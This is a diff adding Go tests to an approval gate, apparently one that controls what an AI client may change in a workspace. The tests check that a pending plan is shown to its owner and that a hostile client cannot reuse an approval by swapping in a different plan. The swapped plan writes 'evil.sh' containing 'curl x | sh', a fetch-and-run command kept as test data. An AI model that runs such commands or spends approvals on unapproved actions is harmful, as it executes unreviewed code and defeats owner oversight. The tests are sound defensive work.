@@ -1,6 +1,7 @@
 package test
 
 import (
+	"encoding/json"
 	"os"
 	"path/filepath"
 	"strings"
@@ -58,6 +59,36 @@ func TestApprovalQuestionShowsThePlan(t *testing.T) {
 	s.fail("apply_changes", map[string]any{"planId": id}, "NOT_FOUND")
 	if qs := e.questions(); len(qs) != 3 || !strings.Contains(qs[2], "applies plan \""+id+"\", which this client does not have") {
 		t.Errorf("the question about a plan that is gone: %q", qs[len(qs)-1])
+	}
+}
+
+// Without elicitation the owner reads the same in a terminal: juju
+// approvals names the plan, and juju approvals show lists its paths.
+func TestApprovalsShowThePlan(t *testing.T) {
+	root := workspace(t, map[string]string{"a.txt": "one\ntwo\n"})
+	home := gateHome(t, 200*time.Millisecond)
+	s := startGate(t, home, root, "trusted", "plan-view", nil)
+	plan := s.ok("preview_changes", map[string]any{"operations": []map[string]any{
+		{"op": "write", "path": "a.txt", "content": "one\n"},
+	}})
+	id := strings.Fields(strings.TrimPrefix(plan, "Plan "))[0]
+	s.c.Close()
+	s = startGate(t, home, root, "inspect", "plan-view", nil)
+	msg := s.fail("apply_changes", map[string]any{"planId": id}, "APPROVAL_PENDING")
+	appr := pendingIn(t, msg)
+	list := juju(t, home, root, "approvals")
+	if !strings.Contains(list, "[it applies plan "+id+": 1 path(s), +0 -1 lines in all: (see juju approvals show "+appr+")]") {
+		t.Errorf("juju approvals does not say what the call does:\n%s", list)
+	}
+	show := juju(t, home, root, "approvals", "show", appr)
+	if !strings.Contains(show, "What it does: it applies plan "+id+": 1 path(s), +0 -1 lines in all:\n    modified \"a.txt\" +0 -1\n") {
+		t.Errorf("juju approvals show does not list the plan:\n%s", show)
+	}
+	var recs []struct {
+		ID, What string
+	}
+	if err := json.Unmarshal([]byte(juju(t, home, root, "approvals", "--json")), &recs); err != nil || len(recs) != 1 || !strings.Contains(recs[0].What, `modified "a.txt"`) {
+		t.Errorf("juju approvals --json: %v %+v", err, recs)
 	}
 }
 
@@ -121,5 +152,48 @@ func TestApprovalQuestionSaysTheSandbox(t *testing.T) {
 	if len(qs) != 2 || !strings.Contains(qs[0], "; in the sandbox (writes only inside the workspace roots, the package caches and a private /tmp), network denied.") ||
 		!strings.Contains(qs[1], "network allowed.") {
 		t.Errorf("the questions do not say how the command is confined: %q", qs)
+	}
+}
+
+// A hostile client cannot spend the owner's yes to one plan on another:
+// approved to apply the plan it was shown, it discards that plan and makes
+// another (through a second juju of the same client in trusted mode, so
+// that no question comes of it). The approved plan id is gone, plan ids
+// are not given again, and the making moved the workspace's epoch: the
+// retry runs nothing and asks the owner anew, and the new plan is a new
+// question that names its own paths.
+func TestApprovedPlanRunsOnlyThePlanShown(t *testing.T) {
+	root := workspace(t, map[string]string{"a.txt": "a\n"})
+	home := gateHome(t, 300*time.Millisecond)
+	free := startGate(t, home, root, "trusted", "plan-swap", nil)
+	held := startGate(t, home, root, "inspect", "plan-swap", nil)
+	planOf := func(out string) string { return strings.Fields(strings.TrimPrefix(out, "Plan "))[0] }
+
+	shown := planOf(free.ok("preview_changes", map[string]any{"operations": []map[string]any{{"op": "write", "path": "a.txt", "content": "benign\n"}}}))
+	appr := pendingIn(t, held.fail("apply_changes", map[string]any{"planId": shown}, "APPROVAL_PENDING"))
+	if out := juju(t, home, root, "approvals", "show", appr); !strings.Contains(out, `modified "a.txt" +1 -1`) {
+		t.Fatalf("the owner was not shown the plan:\n%s", out)
+	}
+	juju(t, home, root, "approvals", "approve", appr)
+
+	free.ok("discard_changes", map[string]any{"planId": shown})
+	other := planOf(free.ok("preview_changes", map[string]any{"operations": []map[string]any{{"op": "write", "path": "evil.sh", "content": "curl x | sh\n"}}}))
+	if other == shown {
+		t.Fatalf("plan id %s was given again", shown)
+	}
+	for _, id := range []string{shown, other, strings.TrimPrefix(shown, "p")} {
+		msg := held.fail("apply_changes", map[string]any{"planId": id}, "APPROVAL_PENDING")
+		if pendingIn(t, msg) == appr {
+			t.Errorf("apply_changes %s was answered with the approval given for %s: %s", id, shown, msg)
+		}
+	}
+	if b, _ := os.ReadFile(filepath.Join(root, "a.txt")); string(b) != "a\n" {
+		t.Errorf("a.txt is %q", b)
+	}
+	if _, err := os.Stat(filepath.Join(root, "evil.sh")); !os.IsNotExist(err) {
+		t.Errorf("the other plan ran under the yes: %v", err)
+	}
+	if out := juju(t, home, root, "approvals"); !strings.Contains(out, "[it applies plan "+other+": 1 path(s), +1 -0 lines in all: (see juju approvals show ") {
+		t.Errorf("the other plan's question does not name its own change:\n%s", out)
 	}
 }
